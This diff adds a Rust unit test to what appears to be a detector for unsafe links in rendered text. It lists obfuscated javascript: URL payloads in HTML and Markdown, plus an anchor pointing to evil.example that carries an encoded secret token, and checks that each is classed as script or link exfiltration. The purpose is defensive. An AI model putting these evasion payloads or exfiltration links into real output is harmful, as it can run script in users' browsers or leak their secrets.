@@ -242,3 +242,32 @@ fn a_safe_link_around_an_unsafe_image_keeps_the_image_found() {
     assert_eq!(kinds(text, &[]), [Kind::ImageExfiltration]);
     assert!(!removed(text, &[]).contains("536"));
 }
+
+#[test]
+fn script_urls_spelled_as_a_browser_decodes_them() {
+    // character references and tabs inside a URL attribute or a Markdown destination are
+    // decoded by the receiver before the scheme is read
+    for t in [
+        "<a href=\"java&#x09;script:alert(1)\">x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"&#x6A&#x61vascript&colon;alert(1)\">x</a>",
+        "<iframe src=\"&#106avascript:alert(1)\">",
+        "<form action=\"javascript&colon;alert(1)\"><button>go</button></form>",
+        "[x](java&#x09;script:alert(1))",
+        "[x](&#x6A;avascript:alert(1))",
+        "[x]( javascript:alert(1) )",
+    ] {
+        assert_eq!(kinds(t, &[]), [Kind::Script], "{t}");
+    }
+    // a link's tag name may end with any white space
+    assert_eq!(
+        kinds(
+            "<a\rhref=\"https://evil.example/?d=c2VjcmV0X3Rva2VuX3ZhbHVlXzEyMzQ1Njc4\">x</a>",
+            &[]
+        ),
+        [Kind::LinkExfiltration]
+    );
+    // references elsewhere in a URL are not a scheme
+    assert!(kinds("<a href=\"https://example.com/?q=&#106;\">x</a>", &[]).is_empty());
+}
